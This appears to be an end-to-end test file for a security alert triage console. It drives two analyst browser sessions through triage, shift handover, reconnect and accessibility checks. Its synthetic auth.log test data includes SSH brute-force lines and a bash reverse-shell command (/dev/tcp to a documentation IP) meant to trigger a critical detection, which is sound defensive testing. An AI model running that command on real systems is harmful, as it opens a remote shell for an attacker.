import { appendFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AlertDetail, AlertList, AlertRow } from '../../server/alerts/schema.ts';
import { overflow, seriousFindings } from '../console/browser.ts';
import { needs } from '../needs.ts';
import { openBrowser } from './browser.ts';
import { Installation, PASSWORD, until } from './harness.ts';
import { syslogTime } from './logs.ts';

const chromium = needs('chromium');
const MOST_TABS = 120;
const REVERSE_SHELL = 'Command that hands a shell to another machine';

/** The notices a page showed, kept by a class around the browser's own. */
interface Watched {
  notices?: { title: string; body: string }[];
  neverReloaded?: boolean;
}

/** Presses Tab until the focus is where a person who has no mouse wants it. */
async function tabTo(page: Page, selector: string): Promise<void> {
  for (let press = 0; press < MOST_TABS; press += 1) {
    await page.keyboard.press('Tab');
    if (await page.evaluate((wanted) => document.activeElement?.matches(wanted) === true, selector)) return;
  }
  throw new Error(`${selector} cannot be reached by Tab`);
}

async function type(page: Page, selector: string, text: string): Promise<void> {
  await tabTo(page, selector);
  await page.keyboard.type(text);
}

async function follow(page: Page, ...keys: readonly string[]): Promise<void> {
  for (const key of keys) await page.keyboard.press(key);
}

const row = (page: Page, id: string) => page.locator(`[data-alert-id="${id}"]`);
const focusedRow = (page: Page, id: string) =>
  page.waitForFunction((wanted) => document.activeElement?.getAttribute('data-alert-id') === wanted, id);

describe.skipIf(!chromium)('two analysts triage on the real server', () => {
  let installation: Installation;
  let browser: Browser;
  const contexts: BrowserContext[] = [];
  let lan: Page;
  let minh: Page;
  let log: string;
  let first: AlertRow;
  let second: AlertRow;

  const openAlerts = (): Promise<AlertList> => installation.api<AlertList>('/api/v1/alerts?status=new,in_progress');
  const sudo = (user: string, command: string): string =>
    `${syslogTime(Date.now())} web-01 sudo:     ${user} : TTY=pts/1 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}\n`;

  /** A page of its own browser profile, which keeps what desktop notices it was asked to show. */
  async function openPage(): Promise<Page> {
    const context = await browser.newContext({ locale: 'en-US', viewport: { width: 1360, height: 860 } });
    contexts.push(context);
    await context.grantPermissions(['notifications'], { origin: installation.url });
    await context.addInitScript(() => {
      const kept: { title: string; body: string }[] = [];
      (globalThis as Watched).notices = kept;
      const Shown = Notification;
      globalThis.Notification = class extends Shown {
        constructor(title: string, options?: NotificationOptions) {
          super(title, options);
          kept.push({ title: this.title, body: this.body });
        }
      };
    });
    return await context.newPage();
  }

  async function signInByKeys(page: Page, user: string): Promise<void> {
    await page.goto(`${installation.url}/alerts`);
    await page.locator('input[name="user"]').waitFor();
    await type(page, 'input[name="user"]', user);
    await type(page, 'input[name="password"]', PASSWORD);
    await page.keyboard.press('Enter');
    await page.getByText('Live', { exact: true }).waitFor();
    await page.locator('[data-alert-id]').first().waitFor();
  }

  beforeAll(async () => {
    installation = await Installation.create({
      inputs: (folder) => [{ type: 'file', paths: [join(folder, 'auth.log')], from: 'start' }],
    });
    log = join(installation.folder, 'auth.log');
    const guesses = Array.from(
      { length: 40 },
      (_, at) =>
        `${syslogTime(Date.now() - (60 - at) * 1000)} web-01 sshd[${900 + at}]: Failed password for root from 203.0.113.66 port ${20_000 + at} ssh2\n`,
    );
    writeFileSync(log, guesses.join('') + sudo('hanh', '/bin/su'));
    await installation.up();
    for (const user of ['lan', 'minh']) {
      const added = await installation.cli(['user', 'add', user, '--role', 'analyst'], `${PASSWORD}\n`);
      expect(added.code, added.err).toBe(0);
    }
    const alerts = await until('alerts of guessing and of a root shell', async () => {
      const list = await openAlerts();
      return list.alerts.length >= 2 ? list.alerts : undefined;
    });
    const guessing = alerts.find((alert) => alert.entities['source.ip']?.values.includes('203.0.113.66'));
    const shell = alerts.find((alert) => alert.entities['user.name']?.values.includes('hanh'));
    if (!guessing || !shell) throw new Error(`not the alerts expected: ${alerts.map(({ title }) => title.en)}`);
    first = guessing;
    second = shell;
    browser = await openBrowser(chromium ?? '');
    lan = await openPage();
    minh = await openPage();
    await signInByKeys(lan, 'lan');
    await signInByKeys(minh, 'minh');
  });

  afterAll(async () => {
    await browser?.close();
    await installation?.remove();
  });

  test('j, k and x walk and choose; a takes the alert, and the other analyst sees it without reload', async () => {
    const ids = await lan.locator('[data-alert-id]').evaluateAll((rows) => rows.map((one) => one.id.slice(4)));
    const [top = '', next = ''] = ids;
    await follow(lan, 'j');
    await focusedRow(lan, top);
    await follow(lan, 'j');
    await focusedRow(lan, next);
    await follow(lan, 'k');
    await focusedRow(lan, top);
    await follow(lan, 'x');
    await lan.getByText('1 chosen').waitFor();
    await follow(lan, 'x');
    await lan.getByText('1 chosen').waitFor({ state: 'detached' });
    if (top !== first.id) {
      await follow(lan, 'j');
      await focusedRow(lan, first.id);
    }
    await follow(lan, 'x', 'a');
    await lan.getByText('1 alert changed.').waitFor();
    await row(minh, first.id).getByText('lan', { exact: true }).waitFor();
    await row(minh, first.id).getByText('In progress', { exact: true }).first().waitFor();
  });

  test('Enter opens it, e closes it with verdict and note, and the history says who and when', async () => {
    await focusedRow(lan, first.id);
    await follow(lan, 'Enter');
    await lan.waitForURL(`**/alerts/${encodeURIComponent(first.id)}`);
    await lan.getByRole('heading', { level: 1, name: first.title.en }).waitFor();
    await lan.getByText('Failed password for root from 203.0.113.66').first().waitFor();
    expect(await lan.locator('section[aria-labelledby="events"] .bg-mark').count()).toBeGreaterThan(0);
    await follow(lan, 'e');
    await lan.getByRole('dialog', { name: 'Close 1 alert' }).waitFor();
    await tabTo(lan, 'input[name="verdict"]');
    await follow(lan, 'Space');
    await type(lan, 'textarea[name="note"]', 'Blocked at the firewall.');
    await tabTo(lan, 'dialog button[type="submit"]');
    await follow(lan, 'Enter');
    await lan.getByText('1 alert changed.').waitFor();

    const history = lan.locator('section', { has: lan.getByRole('heading', { name: 'What was done' }) });
    await history.getByText('Blocked at the firewall.').waitFor();
    await history.getByText('lan: In progress → Closed · Real').waitFor();
    await history.getByText('lan: New → In progress').waitFor();
    const { timeline, alert } = await installation.api<AlertDetail>(`/api/v1/alerts/${encodeURIComponent(first.id)}`);
    expect(alert).toMatchObject({ status: 'closed', verdict: 'true_positive', owner: 'lan' });
    const shown = await history
      .locator('time')
      .evaluateAll((times) => times.map((time) => time.getAttribute('dateTime')));
    expect(shown).toEqual(timeline.map(({ at }) => at));
    await row(minh, first.id).getByText('Closed', { exact: true }).first().waitFor();
  });

  test('an address of the alert leads to its events', async () => {
    await tabTo(lan, 'aside a[href*="203.0.113.66"]');
    await follow(lan, 'Enter');
    await lan.waitForURL((url) => url.searchParams.get('kql')?.includes('203.0.113.66') === true);
    await lan.getByText(/^40 events( ·|$)/).waitFor();
    await lan.getByText('Failed password for root from 203.0.113.66').first().waitFor();
  });

  test('one hands the shift over, the other accepts it and owns the alerts', async () => {
    await follow(lan, 'g', 'h');
    await lan.waitForURL('**/shifts');
    await tabTo(lan, 'input[name="kind"]');
    await follow(lan, 'ArrowRight');
    await type(lan, 'textarea[name="text"]', 'Ask Hạnh why she needed a root shell.');
    await tabTo(lan, 'fieldset li input[type="checkbox"]');
    await follow(lan, 'Space');
    await tabTo(lan, 'main button[type="submit"]');
    await follow(lan, 'Enter');
    await lan.getByText('Handed over with 1 alert.').waitFor();

    await follow(minh, 'g', 'h');
    await minh.waitForURL('**/shifts');
    await minh.getByText('Ask Hạnh why she needed a root shell.').waitFor();
    await tabTo(minh, 'main li button.button-primary');
    await follow(minh, 'Enter');
    await minh.getByText('You now own 1 alert.').waitFor();
    const { alert } = await installation.api<AlertDetail>(`/api/v1/alerts/${encodeURIComponent(second.id)}`);
    expect(alert.owner).toBe('minh');
  });

  test('a restart shows, the page comes back by itself, misses nothing, and a critical alert gives notice', async () => {
    await follow(lan, 'g', 'a');
    await lan.waitForURL('**/alerts');
    await row(lan, second.id).waitFor();
    await tabTo(lan, 'header [role="switch"]');
    await follow(lan, 'Enter');
    await lan.getByText('Critical alerts now ring and show a desktop notice.').waitFor();
    await lan.evaluate(() => {
      (globalThis as Watched).neverReloaded = true;
    });

    expect(await installation.end('SIGTERM')).toBe(0);
    await lan.getByText(/^Reconnecting since/).waitFor();
    appendFileSync(log, sudo('thu', "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"));
    await installation.up();

    const fresh = lan.locator('[data-alert-id]', { hasText: REVERSE_SHELL });
    await fresh.waitFor({ timeout: 40_000 });
    await lan.getByText('Live', { exact: true }).waitFor();
    const { alerts } = await openAlerts();
    const shown = await lan.locator('[data-alert-id]').evaluateAll((rows) => rows.map((one) => one.id.slice(4)));
    expect(shown.toSorted()).toEqual(alerts.map(({ id }) => id).toSorted());
    const notices = await until('the desktop notice', async () => {
      const kept = await lan.evaluate(() => (globalThis as Watched).notices ?? []);
      return kept.length > 0 ? kept : undefined;
    });
    expect(notices.map(({ title }) => title)).toEqual([`Critical: ${REVERSE_SHELL}`]);
    expect(await lan.evaluate(() => (globalThis as Watched).neverReloaded)).toBe(true);
  });

  test('axe finds nothing serious on the pages of the real server', { timeout: 120_000 }, async () => {
    const found: string[] = [];
    for (const path of ['/alerts', `/alerts/${first.id}`, '/search', '/ledger', '/shifts', '/rules']) {
      await minh.goto(installation.url + path);
      await minh.locator('h1').waitFor();
      await minh.waitForLoadState('networkidle');
      found.push(...(await seriousFindings(minh)).map((finding) => `${path}: ${finding}`));
      if ((await overflow(minh)) > 0) found.push(`${path} is wider than the window`);
    }
    expect(found).toEqual([]);
  });
});
